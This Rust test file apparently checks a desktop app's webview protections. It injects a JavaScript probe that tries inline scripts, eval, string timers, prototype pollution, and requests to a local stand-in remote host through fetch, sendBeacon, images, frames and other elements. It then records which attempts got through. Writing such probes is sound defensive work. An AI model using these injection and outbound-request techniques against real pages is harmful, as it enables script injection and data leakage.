//! What a script that got into the window would try, and what came of it.

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;

use serde_json::json;

use crate::app::App;

/// What a page of a window without any protection lets happen, all of it.
pub const ALL: [&str; 15] = [
    "changed Object.prototype",
    "ran a function made of text",
    "ran a string as a timer",
    "ran an inline handler",
    "ran an inline script",
    "ran eval",
    "reached /beacon",
    "reached /fetch",
    "reached /frame",
    "reached /image",
    "reached /link",
    "reached /object",
    "reached /request",
    "reached /script",
    "reached /style",
];

/// Tries everything; `remote` serves what is asked of it.
const TRY: &str = r#"
    const [remote] = arguments;
    const done = arguments[arguments.length - 1];
    const ran = (window.ran = []);
    const attempt = (act) => { try { act(); } catch { /* refused: that is the point */ } };
    const add = (name, set) => { const made = document.createElement(name); set(made); document.body.append(made); return made; };
    attempt(() => add("script", (made) => (made.textContent = "window.ran.push('ran an inline script')")));
    attempt(() => add("div", (made) => made.setAttribute("onclick", "window.ran.push('ran an inline handler')")).click());
    attempt(() => (0, eval)("window.ran.push('ran eval')"));
    attempt(() => new Function("window.ran.push('ran a function made of text')")());
    attempt(() => setTimeout("window.ran.push('ran a string as a timer')", 0));
    attempt(() => (Object.prototype.spoilt = true));
    if ({}.spoilt) ran.push("changed Object.prototype");
    attempt(() => delete Object.prototype.spoilt);
    attempt(() => add("img", (made) => (made.src = remote + "/image")));
    attempt(() => add("script", (made) => (made.src = remote + "/script")));
    attempt(() => add("link", (made) => { made.rel = "stylesheet"; made.href = remote + "/style"; }));
    attempt(() => add("iframe", (made) => (made.src = remote + "/frame")));
    attempt(() => add("object", (made) => (made.data = remote + "/object")));
    attempt(() => fetch(remote + "/fetch", { mode: "no-cors" }).catch(() => {}));
    attempt(() => navigator.sendBeacon(remote + "/beacon", "x"));
    attempt(() => { const request = new XMLHttpRequest(); request.open("GET", remote + "/request"); request.send(); });
    setTimeout(() => {
        attempt(() => add("a", (made) => (made.href = remote + "/link")).click());
        setTimeout(() => done(ran), 500);
    }, 1500);
"#;

/// Tries it all in the page that is shown: what came of it.
pub async fn attack(app: &App) -> BTreeSet<String> {
    let remote = Remote::start();
    let ran = app.ask_and_wait(TRY, vec![json!(remote.address)]).await;
    let ran = ran.as_array().into_iter().flatten().filter_map(|name| name.as_str()).map(str::to_owned);
    let reached = remote.asked.lock().expect("a set").clone();
    ran.chain(reached.into_iter().map(|path| format!("reached {path}"))).collect()
}

/// A host that is not the window's own, and remembers what it was asked for.
struct Remote {
    address: String,
    asked: Arc<Mutex<BTreeSet<String>>>,
}

impl Remote {
    fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
        let address = format!("http://{}", listener.local_addr().expect("an address"));
        let asked = Arc::new(Mutex::default());
        let heard = Arc::clone(&asked);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let heard = Arc::clone(&heard);
                thread::spawn(move || {
                    let mut line = String::new();
                    let _ = BufReader::new(&stream).read_line(&mut line);
                    if let Some(path) = line.split(' ').nth(1) {
                        let _ = heard.lock().map(|mut asked: std::sync::MutexGuard<'_, BTreeSet<String>>| {
                            asked.insert(path.to_owned())
                        });
                    }
                    let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
                });
            }
        });
        Self { address, asked }
    }
}
